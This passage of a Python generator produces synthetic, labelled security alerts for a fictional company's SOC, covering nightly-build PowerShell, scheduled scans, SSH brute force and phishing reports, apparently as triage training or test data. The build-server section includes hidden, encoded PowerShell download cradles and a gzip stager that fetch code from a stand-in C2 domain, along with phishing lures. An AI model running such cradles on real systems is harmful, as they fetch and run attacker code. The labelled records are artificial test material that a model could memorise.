            "resourceType": "AccessKey",
            "accessKeyDetails": {
                "accessKeyId": key_id,
                "principalId": principal,
                "userType": user_type,
                "userName": user,
            },
        },
        "service": svc,
        "severity": severity,
        "createdAt": _ms(at),
        "updatedAt": _ms(at),
        "title": title,
        "description": description,
    }


def _remote(
    ip: str, asn: str, org: str, country: str, city: str, lat: float, lon: float
) -> dict[str, Any]:
    return {
        "ipAddressV4": ip,
        "organization": {"asn": asn, "asnOrg": org, "isp": org, "org": org},
        "country": {"countryName": country},
        "city": {"cityName": city},
        "geoLocation": {"lat": lat, "lon": lon},
    }


def splunk(
    w: World,
    at: datetime,
    *,
    rule_id: str,
    rule_name: str,
    rule_title: str,
    rule_description: str,
    search_name: str,
    domain: str,
    severity: str,
    urgency: str,
    sourcetype: str,
    fields: dict[str, Any],
    mitre: list[str],
    tactics: list[str],
    span: int = 3600,
) -> dict[str, Any]:
    ehash = w.hex(32)
    doc: dict[str, Any] = {
        "_time": _splunk_time(at),
        "event_id": f"{rule_id}@@notable@@{ehash}",
        "event_hash": ehash,
        "rule_id": f"{rule_id}@@notable@@{ehash}",
        "rule_name": rule_name,
        "rule_title": rule_title,
        "rule_description": rule_description,
        "search_name": search_name,
        "security_domain": domain,
        "severity": severity,
        "urgency": urgency,
        "status": "1",
        "status_label": "New",
        "owner": "unassigned",
        "orig_sourcetype": sourcetype,
    }
    doc.update(fields)
    doc["annotations"] = {
        "mitre_attack": mitre,
        "mitre_attack.mitre_tactic_id": tactics,
        "mitre_attack.mitre_technique_id": mitre,
    }
    end = int(at.timestamp())
    doc["info_min_time"] = f"{end - span}.000"
    doc["info_max_time"] = f"{end}.000"
    doc["info_search_time"] = f"{end + w.rng.randint(5, 140)}.{w.rng.randint(0, 999):03d}"
    return doc


def ocsf_phish(
    w: World,
    at: datetime,
    *,
    uid: str,
    title: str,
    message: str,
    desc: str,
    severity: tuple[int, str],
    confidence: tuple[int, str],
    sender: str,
    smtp_from: str,
    to: Person,
    subject: str,
    url: str | None,
    types: list[str],
    first_seen: datetime,
    size: int,
) -> dict[str, Any]:
    evidence: dict[str, Any] = {
        "email": {
            "uid": base64.b64encode(bytes(w.rng.getrandbits(8) for _ in range(12))).decode(),
            "message_uid": f"<{first_seen:%Y%m%d%H%M%S}.{w.rng.randint(10000, 99999)}"
            f"@{smtp_from.split('@')[1]}>",
            "from": sender,
            "to": [to.upn],
            "subject": subject,
            "smtp_from": smtp_from,
            "size": size,
        },
    }
    observables = [
        {"name": "evidences[0].email.from", "type_id": 5, "type": "Email Address", "value": sender},
        {"name": "evidences[0].email.to", "type_id": 5, "type": "Email Address", "value": to.upn},
    ]
    if url:
        host = url.split("/")[2]
        path = "/" + url.split("/", 3)[3] if url.count("/") >= 3 else "/"
        evidence["url"] = {
            "url_string": url,
            "hostname": host,
            "scheme": url.split(":")[0],
            "path": path.split("?")[0],
        }
        observables.append(
            {
                "name": "evidences[0].url.url_string",
                "type_id": 6,
                "type": "URL String",
                "value": url,
            }
        )
    evidence["user"] = {
        "name": to.upn.split("@")[0],
        "email_addr": to.upn,
        "type_id": 1,
        "type": "User",
    }
    return {
        "class_uid": 2004,
        "class_name": "Detection Finding",
        "category_uid": 2,
        "category_name": "Findings",
        "activity_id": 1,
        "activity_name": "Create",
        "type_uid": 200401,
        "type_name": "Detection Finding: Create",
        "severity_id": severity[0],
        "severity": severity[1],
        "status_id": 1,
        "status": "New",
        "confidence_id": confidence[0],
        "confidence": confidence[1],
        "time": _epoch_ms(at),
        "message": message,
        "metadata": {
            "version": "1.3.0",
            "uid": w.uuid(),
            "product": {
                "name": "Mail Security Gateway",
                "vendor_name": "Acme Mail Security",
                "version": "4.2.1",
            },
            "logged_time": _epoch_ms(at) + w.rng.randint(800, 2500),
        },
        "finding_info": {
            "uid": uid,
            "title": title,
            "desc": desc,
            "types": types,
            "created_time": _epoch_ms(at),
            "first_seen_time": _epoch_ms(first_seen),
            "analytic": {
                "name": "User-reported phishing triage",
                "uid": "ANL-PHISH-001",
                "type_id": 1,
                "type": "Rule",
            },
            "attacks": [
                {
                    "tactic": {"uid": "TA0001", "name": "Initial Access"},
                    "technique": {"uid": "T1566", "name": "Phishing"},
                    "sub_technique": {"uid": "T1566.002", "name": "Spearphishing Link"},
                    "version": "15",
                }
            ],
        },
        "evidences": [evidence],
        "observables": observables,
        "resources": [{"type": "Mailbox", "uid": to.upn, "name": to.name}],
    }


def graph_reported_mail(
    w: World,
    at: datetime,
    *,
    reporter: Person,
    sender: str,
    sender_name: str,
    subject: str,
    urls: list[str],
    sender_ip: str,
    received: datetime,
) -> dict[str, Any]:
    domain = sender.split("@")[1]
    message = {
        "@odata.type": "#microsoft.graph.security.analyzedMessageEvidence",
        "createdDateTime": "",
        "verdict": "unknown",
        "remediationStatus": "none",
        "remediationStatusDetails": None,
        "roles": [],
        "detailedRoles": [],
        "tags": [],
        "networkMessageId": w.uuid(),
        "internetMessageId": f"<{received.strftime('%Y%m%d%H%M%S')}.{w.hex(8)}@{domain}>",
        "subject": subject,
        "language": "en",
        "senderIp": sender_ip,
        "recipientEmailAddress": reporter.upn,
        "antiSpamDirection": "inbound",
        "deliveryAction": "delivered",
        "deliveryLocation": "inbox",
        "urlCount": len(urls),
        "attachmentsCount": 0,
        "urls": urls,
        "threats": [],
        "threatDetectionMethods": [],
        "receivedDateTime": _graph_time(received.replace(microsecond=0)),
        "p1Sender": {"emailAddress": sender, "displayName": sender_name, "domainName": domain},
        "p2Sender": {"emailAddress": sender, "displayName": sender_name, "domainName": domain},
    }
    mailbox = {
        "@odata.type": "#microsoft.graph.security.mailboxEvidence",
        "createdDateTime": "",
        "verdict": "unknown",
        "remediationStatus": "none",
        "remediationStatusDetails": None,
        "roles": ["contextual"],
        "detailedRoles": [],
        "tags": [],
        "primaryAddress": reporter.upn,
        "displayName": reporter.name,
        "userAccount": _user_evidence(w, reporter, [])["userAccount"],
    }
    return graph(
        w,
        at,
        title="Email reported by user as malware or phish",
        description="This alert is triggered when users in your organization report messages "
        "as phishing email using the Report Message or Report Phishing add-ins.",
        severity="informational",
        service="microsoftDefenderForOffice365",
        detection="microsoftDefenderForOffice365",
        product="Microsoft Defender for Office 365",
        detector="0b2d4f6a-8c1e-4a3b-9d5f-7e9a1c3e5b7d",
        category="InitialAccess",
        techniques=[],
        evidence=[message, mailbox],
        first=at - timedelta(minutes=2),
        last=at - timedelta(minutes=2),
        recommended="Review the reported message.",
    )


# --- the families ---------------------------------------------------------------------------

BUILD_HOST, BUILD_IP, BUILD_USER = "build-01", "10.30.0.21", "svc-build"
INTRUSION_DAYS = (date(2026, 11, 23), date(2026, 11, 24))


def build_server(w: World) -> None:
    """The nightly release build on build-01 restores packages with an encoded PowerShell
    one-liner from the vendor mirror; Elastic flags every run. Three times in the last
    week the same rule fired on the same host for an intruder's download cradle."""
    pivots = [
        *_p("host", BUILD_HOST),
        *_p("ip", BUILD_IP),
        *_p("user", BUILD_USER, f"acme\\{BUILD_USER}"),
    ]
    for day in _days():
        if day.weekday() == 6:  # the nightly build runs Monday to Saturday
            continue
        at = w.jitter(_at(day, 1, w.rng.randint(2, 24)))
        script = (
            "$ProgressPreference='SilentlyContinue'; "
            "Invoke-WebRequest -UseBasicParsing -Uri "
            f"https://{BUILDFLEET_MIRROR}/nuget/v3/index.json "
            f"-OutFile $env:TEMP\\nuget-index-{day:%Y%m%d}.json; "
            f"& D:\\ci\\nightly\\restore.ps1 -Feed https://{BUILDFLEET_MIRROR}/nuget/v3 "
            f"-Release {day:%Y.%m.%d}"
        )
        pid = w.rng.randint(2000, 9000)
        body = {
            "_event": {
                "type": ["start"],
                "dataset": "endpoint.events.network",
                "module": "endpoint",
            },
            "host": _win_host(BUILD_HOST, BUILD_IP, server=True),
            "user": {"name": BUILD_USER, "domain": "ACME"},
            "process": {
                "name": "powershell.exe",
                "pid": pid,
                "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "command_line": "powershell.exe -NoProfile -NonInteractive -EncodedCommand "
                f"{_enc(script)}",
                "parent": {
                    "name": "cmd.exe",
                    "pid": pid - w.rng.randint(4, 60),
                    "command_line": "cmd.exe /c call D:\\ci\\nightly\\fetch-deps.cmd",
                },
            },
            "source": {"ip": BUILD_IP, "port": w.port()},
            "destination": {"ip": BUILDFLEET_MIRROR_IP, "port": 443, "domain": BUILDFLEET_MIRROR},
            "network": {"transport": "tcp", "direction": "egress"},
        }
        doc = elastic(
            w,
            at,
            "cradle",
            category=["network", "process"],
            action="connection_attempted",
            outcome="success",
            original=at - timedelta(seconds=w.rng.randint(2, 9)),
            reason=f"network event with process powershell.exe, source {BUILD_IP}, "
            f"destination {BUILDFLEET_MIRROR_IP}:443, by {BUILD_USER} on {BUILD_HOST}",
            body=body,
        )
        reason = w.pick(
            [
                "Nightly release build: fetch-deps.cmd restores NuGet packages from the buildfleet "
                "mirror with an encoded one-liner. Expected, same as every night.",
                "Build script again (nightly restore from pkgs.buildfleet.example). Command "
                "decoded, "
                "matches the repo's ci/nightly/restore.ps1.",
                "False positive: the nightly build's package restore. Destination is the vendor "
                "mirror; intel lists its whole /24.",
                "Same build-01 nightly job; checked the decoded command and the parent "
                "fetch-deps.cmd.",
            ]
        )
        w.add(
            at,
            "build-server-powershell",
            FP,
            reason,
            doc,
            [*pivots, *_p("ip", BUILDFLEET_MIRROR_IP), *_p("domain", BUILDFLEET_MIRROR)],
        )

    # The intrusion: a stolen build-agent token let the attacker run their own cradle.
    intruder = [
        (
            _at(INTRUSION_DAYS[0], 3, 47, 12, 331000),
            "java.exe",
            '"C:\\Program Files\\Eclipse Adoptium\\jre-17\\bin\\java.exe" -jar '
            "D:\\agent\\agent.jar -jnlpUrl https://ci.acme.example/computer/build-01/jenkins-agent.jnlp",
            "IEX (New-Object Net.WebClient).DownloadString('https://cdn-update-check.example/s/upd.ps1')",
            "Real intrusion on build-01: encoded cradle from the Jenkins agent at 03:47, hours "
            "after "
            "the nightly build, pulling upd.ps1 from cdn-update-check.example (known C2). Host "
            "isolated, "
            "agent token revoked.",
        ),
        (
            _at(INTRUSION_DAYS[0], 14, 22, 40, 905000),
            "wmiprvse.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String((New-Object "
            "Net.WebClient).DownloadString('https://cdn-update-check.example/s/b.txt')));"
            "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
            "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
            "True positive, same intrusion: WMI persistence re-ran the stager on build-01 and "
            "fetched a second stage from the C2 domain.",
        ),
        (
            _at(INTRUSION_DAYS[1], 4, 5, 3, 118000),
            "wmiprvse.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            "IEX (New-Object Net.WebClient).DownloadString('https://cdn-update-check.example/s/upd.ps1')",
            "True positive: the WMI subscription fired again before the rebuild of build-01; "
            "same C2, same stager. Reimaged.",
        ),
    ]
    for at, parent, parent_cmd, script, reason in intruder:
        pid = w.rng.randint(2000, 9000)
        body = {
            "_event": {
                "type": ["start"],
                "dataset": "endpoint.events.network",
                "module": "endpoint",
            },
            "host": _win_host(BUILD_HOST, BUILD_IP, server=True),
            "user": {"name": BUILD_USER, "domain": "ACME"},
            "process": {
                "name": "powershell.exe",
                "pid": pid,
                "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "command_line": f"powershell.exe -nop -w hidden -EncodedCommand {_enc(script)}",
                "parent": {
                    "name": parent,
                    "pid": pid - w.rng.randint(4, 900),
                    "command_line": parent_cmd,
                },
            },
            "source": {"ip": BUILD_IP, "port": w.port()},
            "destination": {"ip": C2_IP, "port": 443, "domain": C2_DOMAIN},
            "network": {"transport": "tcp", "direction": "egress"},
        }
        doc = elastic(
            w,
            at,
            "cradle",
            category=["network", "process"],
            action="connection_attempted",
            outcome="success",
            original=at - timedelta(seconds=w.rng.randint(2, 9)),
            reason=f"network event with process powershell.exe, source {BUILD_IP}, "
            f"destination {C2_IP}:443, by {BUILD_USER} on {BUILD_HOST}",
            body=body,
        )
        w.add(
            at,
            "build-server-powershell",
            TP,
            reason,
            doc,
            [*pivots, *_p("ip", C2_IP), *_p("domain", C2_DOMAIN)],
        )


SCANNER_IP = "10.0.9.15"  # scan-01, the vulnerability scanner appliance
SERVERS = [
    ("dc01", "10.0.0.5"),
    ("web-prod-01", "10.0.10.11"),
    ("bastion-01", "10.0.5.10"),
    ("file-01", "10.0.0.20"),
    ("db-01", "10.0.20.5"),
    ("mail-relay-01", "10.0.0.25"),
    ("git-01", "10.0.20.9"),
    ("erp-01", "10.0.20.14"),
]


def vulnerability_scanner(w: World) -> None:
    """The weekly authenticated scan (Tuesday and Thursday evenings) trips ET SCAN rules."""
    scan_days = [d for d in _days() if d.weekday() in (1, 3)]
    sigs = ["nmap_nse", "nessus_ua", "ssh_scan", "smb_scan", "rdp_scan", "vnc_scan", "sql_scan"]
    ports = {
        "nmap_nse": 80,
        "nessus_ua": 443,
        "ssh_scan": 22,
        "smb_scan": 445,
        "rdp_scan": 3389,
        "vnc_scan": 5800,
        "sql_scan": 3306,
    }
    reasons = [
        "Scheduled vulnerability scan from scan-01 (change CHG-2211, Tue/Thu 19:00).",
        "scan-01 weekly scan window; expected ET SCAN hits.",
        "Authorised scan from the scanner appliance (scan-01).",
        "Vulnerability scanner, scheduled. Nothing to do.",
    ]
    for day in scan_days:
        n = w.rng.randint(5, 7)
        start = _at(day, 18, w.rng.randint(0, 20))
        used: set[tuple[str, str]] = set()
        for i in range(n):
            sig = w.pick(sigs)
            _, ip = w.pick(SERVERS)
            if (sig, ip) in used:
                continue
            used.add((sig, ip))
            at = w.jitter(start + timedelta(minutes=17 * i + w.rng.randint(0, 12)))
            app: dict[str, Any] | None = None
            if sig in ("nmap_nse", "nessus_ua"):
                ua = (
                    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
                    if sig == "nmap_nse"
                    else "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) (Nessus)"
                )
                app = {
                    "http": {
                        "hostname": ip,
                        "url": w.pick(
                            ["/", "/admin/", "/cgi-bin/test.cgi", "/.git/HEAD", "/server-status"]
                        ),
                        "http_user_agent": ua,
                        "http_method": "GET",
                        "protocol": "HTTP/1.1",
                        "status": w.pick([200, 301, 403, 404]),
                        "length": w.rng.randint(120, 4000),
                    },
                    "app_proto": "http",
                }
            doc = suricata(
                w,
                at,
                sig,
                src=SCANNER_IP,
                dst=ip,
                dport=ports[sig],
                app=app,
                to_server=(w.rng.randint(3, 12), w.rng.randint(200, 1800)),
                to_client=(w.rng.randint(2, 10), w.rng.randint(60, 5000)),
            )
            w.add(
                at, "vulnerability-scanner", BTP, w.pick(reasons), doc, [*_p("ip", SCANNER_IP, ip)]
            )


def ssh_brute_force(w: World) -> None:
    """bastion-01 is internet-facing: background password guessing, two real attacks from
    addresses intel knows, and the platform admin's weekly key rotation that looks the same."""
    # The admin's Monday key-rotation run: many failed key logins, then success, from the
    # jump host behind the corporate egress.
    mondays = [d for d in _days() if d.weekday() == 0]
    for day in mondays:
        base = _at(day, 7, w.rng.randint(30, 50))
        for i, (host, hip) in enumerate(
            [("bastion-01", "10.0.5.10"), ("git-01", "10.0.20.9"), ("web-prod-01", "10.0.10.11")]
        ):
            at = w.jitter(base + timedelta(minutes=6 * i))
            body = {
                "_event": {"dataset": "system.auth", "module": "system"},
                "host": _linux_host(host, hip),
                "source": {
                    "ip": VPN_EGRESS_IP,
                    "port": w.port(),
                    "geo": {"country_iso_code": "US"},
                },
                "user": {"name": "akowalski"},
                "process": {"name": "sshd", "pid": w.rng.randint(1000, 60000)},
            }
            doc = elastic(
                w,
                at,
                "ssh_brute",
                category=["authentication"],
                action="ssh_login",
                outcome="success",
                original=at - timedelta(seconds=w.rng.randint(20, 50)),
                reason=f"authentication event with source {VPN_EGRESS_IP} by akowalski on {host}",
                body=body,
            )
            w.add(
                at,
                "admin-key-rotation",
                BTP,
                w.pick(
                    [
                        "Adam's Monday SSH key rotation (ansible from the jump host, via the "
                        "VPN egress); "
                        "stale keys fail before the new one works.",
                        "Weekly key-rotation run by the platform admin. Expected.",
                        "Benign: ansible key rotation from jump-01, same every Monday morning.",
                    ]
                ),
                doc,
                [*_p("ip", VPN_EGRESS_IP), *_p("host", host), *_p("user", "akowalski")],
            )

    # Internet background noise: guessing from unlisted addresses, never successful.
    noise_days = w.workdays(18, exclude=[DEMO_DAY])
    for day in noise_days:
        src = f"203.0.113.{w.rng.randint(225, 254)}"
        country = w.pick(["CN", "RU", "BR", "IN", "VN", "US", "KR", "ID"])
        at = w.place([day], w.any_time, TP, [*_p("ip", src), *_p("host", "bastion-01")])
        user = w.pick(["root", "admin", "ubuntu", "oracle", "test", "postgres", "git"])
        body = {
            "_event": {"dataset": "system.auth", "module": "system"},
            "host": _linux_host("bastion-01", "10.0.5.10"),
            "source": {"ip": src, "port": w.port(), "geo": {"country_iso_code": country}},
            "user": {"name": user},
            "process": {"name": "sshd", "pid": w.rng.randint(1000, 60000)},
        }
        doc = elastic(
            w,
            at,
            "ssh_brute",
            category=["authentication"],
            action="ssh_login",
            outcome="failure",
            original=at - timedelta(seconds=w.rng.randint(20, 50)),
            reason=f"authentication event with source {src} by {user} on bastion-01",
            body=body,
        )
        w.add(
            at,
            "internet-ssh-guessing",
            TP,
            w.pick(
                [
                    "Internet password guessing against bastion-01, no success (key-only for "
                    "real users). "
                    "Source blocked 24 h.",
                    "Real but unsuccessful SSH brute force from the internet; blocked.",
                    "True positive, opportunistic SSH guessing; nothing got in.",
                ]
            ),
            doc,
            [*_p("ip", src), *_p("host", "bastion-01"), *_p("user", user)],
        )

    # Real attack 1 (9-10 Nov): spraying from a bulletproof host (198.51.100.0/24 in intel).
    spray_ip = "198.51.100.14"
    for day, hour, minute, host, hip, user in [
        (date(2026, 11, 9), 2, 14, "bastion-01", "10.0.5.10", "deploy"),
        (date(2026, 11, 9), 5, 41, "sftp-01", "10.0.5.22", "edi-upload"),
        (date(2026, 11, 10), 3, 2, "bastion-01", "10.0.5.10", "admin"),
    ]:
        at = w.jitter(_at(day, hour, minute))
        body = {
            "_event": {"dataset": "system.auth", "module": "system"},
            "host": _linux_host(host, hip),
            "source": {"ip": spray_ip, "port": w.port(), "geo": {"country_iso_code": "MD"}},
            "user": {"name": user},
            "process": {"name": "sshd", "pid": w.rng.randint(1000, 60000)},
        }
        doc = elastic(
            w,
            at,
            "ssh_brute",
            category=["authentication"],
            action="ssh_login",
            outcome="failure",
            original=at - timedelta(seconds=w.rng.randint(20, 50)),
            reason=f"authentication event with source {spray_ip} by {user} on {host}",
            body=body,
        )
        w.add(
            at,
            "ssh-brute-force-attack",
            TP,
            "Password spraying from 198.51.100.14 (bulletproof hosting) against the SSH gateways; "
            "no successful login. Blocked at the perimeter.",
            doc,
            [*_p("ip", spray_ip), *_p("host", host), *_p("user", user)],
        )

    # Real attack 2 (20 Nov, the demo day): 203.0.113.45 guesses, then gets in as deploy.
    for at, rule, user, outcome, reason in [
        (
            _at(DEMO_DAY, 8, 1, 31, 207000),
            "ssh_brute",
            "root",
            "failure",
            "Brute force from 203.0.113.45 (known SSH brute-forcer), 40 failures over 8 accounts.",
        ),
        (
            _at(DEMO_DAY, 8, 13, 2, 417000),
            "ssh_brute_success",
            "deploy",
            "success",
            "Account compromise: 203.0.113.45 guessed the deploy password after 40 failures. "
            "deploy disabled, keys rotated, source blocked.",
        ),
    ]:
        body = {
            "_event": {"dataset": "system.auth", "module": "system"},
            "host": _linux_host("bastion-01", "10.0.5.10"),
            "source": {
                "ip": SSH_BRUTE_IP,
                "port": 40999 if outcome == "success" else 40000,
                "geo": {"country_iso_code": "VN"},
            },
            "user": {"name": user},
            "process": {"name": "sshd", "pid": 3199 if outcome == "success" else 3100},
        }
        doc = elastic(
            w,
            at,
            rule,
            category=["authentication"],
            action="ssh_login",
            outcome=outcome,
            original=at - timedelta(seconds=31),
            body=body,
            reason=f"authentication event with source {SSH_BRUTE_IP} by {user} on bastion-01",
        )
        w.add(
            at,
            "ssh-brute-force-attack",
            TP,
            reason,
            doc,
            [*_p("ip", SSH_BRUTE_IP), *_p("host", "bastion-01"), *_p("user", user)],
        )

    # The contracted external pentest firm's monthly credential check (Splunk).
    for day in [date(2026, 11, 4), date(2026, 11, 11), date(2026, 11, 18), date(2026, 11, 25)]:
        at = w.jitter(_at(day, 2, 10))
        users = w.rng.sample(
            ["admin", "root", "tomcat", "test", "guest", "oracle", "www-data", "deploy"], 6
        )
        count = w.rng.randint(30, 60)
        doc = splunk(
            w,
            at,
            rule_id="2E4A6C8E-1B3D-4F5A-9C7E-0D2F4A6B8C1E",
            rule_name="Excessive Failed Logins",
            rule_title="Excessive failed logins from $src$ against $dest$",
            rule_description="Detects excessive number of failed login attempts (this is likely "
            "a brute force attack)",
            search_name="Access - Excessive Failed Logins - Rule",
            domain="access",
            severity="medium",
            urgency="high",
            sourcetype="linux_secure",
            fields={
                "app": "sshd",
                "src": "192.0.2.50",
                "dest": "web-prod-01",
                "dest_priority": "critical",
                "user": users,
                "user_count": "6",
                "count": str(count),
                "failure": str(count),
            },
            mitre=["T1110", "T1110.001"],
            tactics=["TA0006"],
        )
        w.add(
            at,
            "contracted-scanner-logins",
            BTP,
            w.pick(
                [
                    "Contracted external scanner (192.0.2.50, Example Scanning Services) weekly "
                    "default-"
                    "credential check of web-prod-01; in the scope letter.",
                    "Expected: the pentest firm's Wednesday credential sweep.",
                ]
            ),
            doc,
            [*_p("ip", "192.0.2.50"), *_p("host", "web-prod-01"), *_p("user", *users)],
        )


def phishing(w: World) -> None:
    """User reports: an invoice campaign intel knows, a look-alike helpdesk lure, fresh
    phishing on unknown infrastructure, the partner's newsletter, the awareness team's
    simulation, and the SOC's own warning bulletin."""
    # The invoice campaign, four waves (the demo's on 20 Nov).
    waves = [date(2026, 11, 6), date(2026, 11, 13), DEMO_DAY, date(2026, 11, 27)]
    for wave, day in enumerate(waves):
        invoice = 44100 + wave * 239 + w.rng.randint(0, 99)
        if day == DEMO_DAY:
            invoice = 44817
        subject = f"Overdue invoice #{invoice} - action required"
        sent = _at(day, 8, w.rng.randint(5, 40), w.rng.randint(0, 59))
        reporters = w.rng.sample(OFFICE_STAFF, 3)
        if day == DEMO_DAY:
            reporters = ["j.doe", *[r for r in reporters if r != "j.doe"][:2]]
        for i, key in enumerate(reporters):
            who = PEOPLE[key]

            def reported(_: date, i: int = i, sent: datetime = sent) -> datetime:
                return w.jitter(sent + timedelta(minutes=25 + 22 * i), 600)

            at = w.place(
                [day],
                reported,
                TP,
                [*_person_pivots(who), *_p("email", PHISH_SENDER)],
            )
            delivered = w.rng.randint(4, 9)
            doc = ocsf_phish(
                w,
                at,
                uid=f"phish-{day:%Y-%m-%d}-{invoice}-{i}",
                title=f"Reported phishing: {subject}",
                message="User-reported phishing e-mail confirmed by mail security: "
                f"credential-harvesting link to {PHISH_DOMAIN}",
                desc="A user reported a message with a link to a credential-harvesting page "
                "imitating a "
                f"Microsoft 365 sign-in. The same message was delivered to {delivered} mailboxes.",
                severity=(4, "High"),
                confidence=(3, "High"),
                sender=PHISH_SENDER,
                smtp_from=PHISH_SENDER,
                to=who,
                subject=subject,
                url=PHISH_URL,
                types=["Phishing", "Credential Harvesting"],
                first_seen=sent,
                size=w.rng.randint(40000, 52000),
            )
            w.add(
                at,
                "invoice-phishing",
                TP,
                w.pick(
                    [
                        "Invoice credential-harvesting campaign "
                        "(invoice-portal-secure.example). Messages pulled "
                        "from all mailboxes, domain blocked.",
                        "Confirmed phishing, same invoice lure as before; pulled and blocked.",
                        "True positive: M365 credential harvest. Checked proxy logs for clicks.",
                    ]
                ),
                doc,
                [
                    *_person_pivots(who),
                    *_p("email", PHISH_SENDER),
                    *_p("domain", PHISH_DOMAIN),
                    *_p("url", PHISH_URL),
                ],
            )

    # Look-alike helpdesk ("password expires today"), Graph user reports.
    for day in w.workdays(5, exclude=waves):
        who = PEOPLE[w.pick(OFFICE_STAFF)]
        url = f"https://acme-support.example/reset?u={who.upn.split('@')[0]}&t={w.hex(6)}"
        at = w.place([day], w.work_time, TP, [*_person_pivots(who), *_p("email", LOOKALIKE_SENDER)])
        doc = graph_reported_mail(
            w,
            at,
            reporter=who,
            sender=LOOKALIKE_SENDER,
            sender_name="Acme IT Helpdesk",
            subject="Your password expires today - keep your current password",
            urls=[url],
            sender_ip=f"203.0.113.{w.rng.randint(20, 40)}",
            received=at - timedelta(minutes=w.rng.randint(8, 90)),
        )
        w.add(
            at,
            "helpdesk-lookalike-phishing",
            TP,
            w.pick(
                [
                    "Phishing from the look-alike acme-support.example (not our helpdesk). Pulled.",
                    "True positive: password-expiry lure from acme-support.example; user did "
                    "not click.",
                ]
            ),
            doc,
            [*_person_pivots(who), *_p("email", LOOKALIKE_SENDER), *_p("url", url)],
        )

    # Fresh phishing on infrastructure intel does not know yet.
    fresh: list[tuple[str, str, str, str | None]] = [
        (
            "docs@secure-docshare.example",
            "Secure DocShare",
            "Q4 rate card shared with you",
            "https://secure-docshare.example/view/acme-q4",
        ),
        (
            "payroll@acme-hr-portal.example",
            "Acme HR",
            "Action needed: confirm your December payslip details",
            "https://acme-hr-portal.example/sso/login",
        ),
        (
            "no-reply@m365-verify-login.example",
            "Microsoft 365",
            "Unusual sign-in activity - verify your account",
            "https://m365-verify-login.example/verify",
        ),
        (
            "dhl-notice@parcel-redelivery.example",
            "Parcel Service",
            "Your parcel could not be delivered",
            "https://parcel-redelivery.example/track/88412",
        ),
        ("ceo.office@acme-exec.example", "Mei Chen", "Quick favour - are you at your desk?", None),
        (
            "accounts@freight-invoice-center.example",
            "Accounts Receivable",
            "Remittance advice 77812",
            "https://freight-invoice-center.example/invoice/77812/view",
        ),
    ]
    for day, (sender, display, subject, link) in zip(
        w.workdays(6, exclude=waves), fresh, strict=True
    ):
        who = PEOPLE[w.pick(FINANCE if "invoice" in sender or "ceo" in sender else OFFICE_STAFF)]
        domain = sender.split("@")[1]
        at = w.place([day], w.work_time, TP, [*_person_pivots(who), *_p("email", sender)])
        if w.rng.random() < 0.5 and link:
            doc = ocsf_phish(
                w,
                at,
                uid=f"phish-{day:%Y-%m-%d}-{w.rng.randint(10000, 99999)}",
                title=f"Reported phishing: {subject}",
                message=f"User-reported e-mail awaiting triage: 1 link to {domain}",
                desc="A user reported a message as phishing. Authentication results: SPF fail, "
                "DKIM none, DMARC fail. URL detonation: no verdict.",
                severity=(3, "Medium"),
                confidence=(2, "Medium"),
                sender=sender,
                smtp_from=sender,
                to=who,
                subject=subject,
                url=link,
                types=["Phishing", "User Report"],
                first_seen=at - timedelta(minutes=w.rng.randint(10, 120)),
                size=w.rng.randint(9000, 60000),
            )
        else:
            doc = graph_reported_mail(
                w,
                at,
                reporter=who,
                sender=sender,
                sender_name=display,
                subject=subject,
                urls=[link] if link else [],
                sender_ip=f"203.0.113.{w.rng.randint(2, 60)}",
                received=at - timedelta(minutes=w.rng.randint(5, 200)),
            )
        w.add(
            at,
            "new-phishing",
            TP,
            w.pick(
                [
                    f"Phishing from {domain}, not in intel yet; added to the block list and "
                    "pulled.",
                    f"True positive: new lure ({domain}). Reported by the user before anyone "
                    "clicked.",
                ]
            ),
            doc,
            [
                *_person_pivots(who),
                *_p("email", sender),
                *([f"url:{link.lower()}"] if link else []),
            ],
        )

    # The partner's marketing newsletter, reported every week by someone.
    for day in [d for d in _days() if d.weekday() in (0, 1, 3)]:
        who = PEOPLE[w.pick(OFFICE_STAFF)]
        at = w.place(
            [day, day + timedelta(days=1)],
            w.work_time,
            FP,
            [*_person_pivots(who), *_p("email", PARTNER_SENDER)],
        )
        issue = 40 + (day.toordinal() - START.date().toordinal()) // 3
        url = f"https://{PARTNER_DOMAIN}/issues/2026-{issue}?utm_source=newsletter&utm_medium=email"
        if w.rng.random() < 0.5:
            doc = ocsf_phish(
                w,
                at,
                uid=f"phish-{day:%Y-%m-%d}-{w.rng.randint(10000, 99999)}",
                title=f"Reported phishing: Partner Update - Issue {issue}",
                message=f"User-reported e-mail awaiting triage: 1 link to {PARTNER_DOMAIN}",
                desc="A user reported a message as phishing. Authentication results: SPF pass, "
                "DKIM pass "
                "(partner-mail.example), DMARC pass. No attachment; 1 link. URL detonation: no "
                "verdict.",
                severity=(2, "Low"),
                confidence=(1, "Low"),
                sender=PARTNER_SENDER,
                smtp_from=f"bounce-{w.rng.randint(100, 999)}@partner-mail.example",
                to=who,
                subject=f"Partner Update - Issue {issue}",
                url=url,
                types=["Phishing", "User Report"],
                first_seen=at - timedelta(hours=w.rng.randint(1, 5)),
                size=w.rng.randint(80000, 120000),
            )
        else:
            doc = graph_reported_mail(
                w,
                at,
                reporter=who,
                sender=PARTNER_SENDER,
                sender_name="Partner Mail",
                subject=f"Partner Update - Issue {issue}",
                urls=[url],
                sender_ip="192.0.2.88",
                received=at - timedelta(hours=w.rng.randint(1, 5)),
            )
        w.add(
            at,
            "partner-newsletter",
            FP,
            w.pick(
                [
                    "Not phishing: the partner's marketing newsletter (SPF/DKIM/DMARC pass, "
                    "allow-listed).",
                    "Marketing mail from partner-mail.example, reported by mistake.",
                    "False positive, newsletter. Told the user how to unsubscribe.",
                ]
            ),
            doc,
            [*_person_pivots(who), *_p("email", PARTNER_SENDER), *_p("domain", PARTNER_DOMAIN)],
        )

    # The awareness team's Q4 phishing simulation (17-18 Nov): users reporting it is the goal.
    sim_sender = "awareness@phishsim-training.example"
    for i, key in enumerate(w.rng.sample(OFFICE_STAFF, 11)):
        who = PEOPLE[key]
